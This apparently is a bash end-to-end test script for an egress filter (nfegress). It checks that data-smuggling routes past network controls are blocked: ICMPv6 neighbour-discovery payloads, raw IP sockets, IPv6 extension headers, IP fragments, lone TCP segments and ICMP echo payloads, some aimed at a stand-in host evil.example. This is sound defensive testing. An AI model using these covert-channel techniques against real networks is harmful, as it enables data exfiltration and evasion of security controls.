#!/usr/bin/env bash
# tests/attack/raw_ip.sh — issue 16, leak 4 and the closed routes that go through the IP stack: ICMPv6
# neighbour-discovery messages carrying a payload to a host behind the Deny network (raw ICMPv6, CAP_NET_RAW);
# raw IP sockets (IP_HDRINCL) carrying UDP and hand-made TCP connections; IPv6 extension headers (hop-by-hop,
# destination options, fragment header) before TCP and UDP; a first flight or a datagram cut into IP fragments;
# ICMP and ICMPv6 echo payloads, from a raw socket (CAP_NET_RAW) and from the ping socket (no privilege: container
# runtimes open ping_group_range).
source "$(dirname "$0")/lib.sh"
e2e_need init enforce
attack_sandbox

echo "== harness: before nfegress runs, the techniques reach the server"
m=$(marker pre-ns); attack net_raw --marker "$m" icmp ns "$DENY6"
expect_arrived "neighbour solicitation with a payload, nothing enforced yet" "$m"
m=$(marker pre-nd-dst); attack net_raw --marker "$m" icmp ns "$DENY6" --ext dst
expect_arrived "neighbour solicitation behind a destination options header with a payload, nothing enforced yet" "$m"
m=$(marker pre-lone-rst); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 443 --lone rst
expect_arrived "a reset with a payload outside any connection, nothing enforced yet (the host witness sees it)" "$m"
m=$(marker pre-raw-tcp); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80
expect_arrived "raw IP TCP connection, nothing enforced yet" "$m"
m=$(marker pre-raw6-hbh); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 80 --ext hbh,dst
expect_arrived "raw IPv6 TCP connection with extension headers, nothing enforced yet" "$m"
m=$(marker pre-frag); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80 --frag
expect_arrived "first flight in IP fragments, nothing enforced yet" "$m"
m=$(marker pre-frag6); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 80 --frag
expect_arrived "first flight in IPv6 fragments, nothing enforced yet" "$m"
m=$(marker pre-ping); attack none --marker "$m" icmp echo "$DENY4" --ping-socket
expect_arrived "echo from the ping socket, nothing enforced yet" "$m"

attack_enforce
echo "== controls: the same techniques to allowed destinations"
m=$(marker ctl-raw-udp); attack net_raw --marker "$m" raw udp "$POD4" "$OPEN4" --port 5353
expect_arrived "raw IP UDP to the Allow network" "$m"
m=$(marker ctl-raw6-udp); attack net_raw --marker "$m" raw udp "$POD6" "$OPEN6" --port 5353 --ext hbh,dst,frag
expect_arrived "raw IPv6 UDP with extension headers to the Allow network" "$m"
m=$(marker ctl-raw-tcp); attack net_raw --marker "$m" raw tcp "$POD4" "$OPEN4" --port 9999
expect_arrived "raw IP TCP connection to the Allow network" "$m"
m=$(marker ctl-raw-get); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80 --evil allowed.example --path /get
expect_arrived "raw IP TCP connection, HTTP Host allowed.example (the enforcer allows a hand-made flow)" "$m"
m=$(marker ctl-echo); attack net_raw --marker "$m" icmp echo "$OPEN4"
expect_arrived "ICMP echo to the Allow network" "$m"
m=$(marker ctl-echo6); attack none --marker "$m" icmp echo "$OPEN6" --ping-socket
expect_arrived "ICMPv6 echo (ping socket) to the Allow network" "$m"

echo "== leak 4: neighbour discovery with a payload (CAP_NET_RAW)"
for t in ns na rs; do
  m=$(marker "nd-$t"); attack net_raw --marker "$m" icmp "$t" "$DENY6"
  expect_blocked "ICMPv6 ${t^^} (hop limit 255) with a payload to the Deny network" "$m"
done
for ext in hbh dst; do
  m=$(marker "nd-ext-$ext"); attack net_raw --marker "$m" icmp ns "$DENY6" --ext "$ext"
  expect_blocked "ICMPv6 NS of 32 bytes behind a $ext options header that carries the payload" "$m"
done
m=$(marker nd-ns-64); attack net_raw --marker "$m" icmp ns "$DENY6" --hlim 64
expect_blocked "ICMPv6 NS (hop limit 64) with a payload to the Deny network" "$m"

echo "== closed: raw IP sockets (IP_HDRINCL, CAP_NET_RAW)"
m=$(marker raw-udp); attack net_raw --marker "$m" raw udp "$POD4" "$DENY4" --port 5353
expect_blocked "raw IP UDP to the Deny network" "$m"
m=$(marker raw-tcp); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80
expect_blocked "raw IP TCP connection, HTTP Host evil.example" "$m"
m=$(marker raw-tcp-port); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 9999
expect_blocked "raw IP TCP connection to a port with no route" "$m"
m=$(marker raw6-udp); attack net_raw --marker "$m" raw udp "$POD6" "$DENY6" --port 5353
expect_blocked "raw IPv6 UDP to the Deny network" "$m"

echo "== a TCP segment with a payload outside any connection (the server's TCP drops it; the host sees it)"
for f in rst rst-ack fin ack syn; do
  m=$(marker "lone-$f"); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 443 --lone $f
  expect_blocked "lone ${f^^} with a payload to port 443" "$m"
done
m=$(marker lone-rst-80); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80 --lone rst
expect_blocked "lone RST with a payload to port 80" "$m"
m=$(marker lone6-rst); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 443 --lone rst
expect_blocked "lone RST with a payload to port 443 over IPv6" "$m"

echo "== closed: IPv6 extension headers before TCP and UDP"
for ext in hbh dst frag hbh,dst,frag; do
  m=$(marker "ext-udp-${ext//,/-}"); attack net_raw --marker "$m" raw udp "$POD6" "$DENY6" --port 5353 --ext "$ext"
  expect_blocked "IPv6 $ext header(s) before UDP to the Deny network" "$m"
  m=$(marker "ext-tcp-${ext//,/-}"); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 80 --ext "$ext"
  expect_blocked "IPv6 $ext header(s) before TCP, HTTP Host evil.example" "$m"
done
m=$(marker ext-tcp-port); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 9999 --ext hbh
expect_blocked "IPv6 hop-by-hop header before TCP to a port with no route" "$m"

echo "== closed: IP fragments"
m=$(marker frag-tcp); attack net_raw --marker "$m" raw tcp "$POD4" "$DENY4" --port 80 --frag
expect_blocked "first flight (HTTP Host evil.example) in two IPv4 fragments" "$m"
m=$(marker frag-tcp6); attack net_raw --marker "$m" raw tcp "$POD6" "$DENY6" --port 80 --frag
expect_blocked "first flight (HTTP Host evil.example) in two IPv6 fragments" "$m"
m=$(marker frag-udp); attack net_raw --marker "$m" raw udp "$POD4" "$DENY4" --port 5353 --frag
expect_blocked "UDP in two IPv4 fragments to the Deny network" "$m"
m=$(marker frag-udp6); attack net_raw --marker "$m" raw udp "$POD6" "$DENY6" --port 5353 --frag
expect_blocked "UDP in two IPv6 fragments to the Deny network" "$m"

echo "== closed: ICMP and ICMPv6 echo payloads to the Deny network"
m=$(marker echo4); attack net_raw --marker "$m" icmp echo "$DENY4"
expect_blocked "ICMP echo (raw socket)" "$m"
m=$(marker echo6); attack net_raw --marker "$m" icmp echo "$DENY6"
expect_blocked "ICMPv6 echo (raw socket)" "$m"
m=$(marker ping4); attack none --marker "$m" icmp echo "$DENY4" --ping-socket
expect_blocked "ICMP echo (ping socket, no privilege)" "$m"
m=$(marker ping6); attack none --marker "$m" icmp echo "$DENY6" --ping-socket
expect_blocked "ICMPv6 echo (ping socket, no privilege)" "$m"
attack_finish
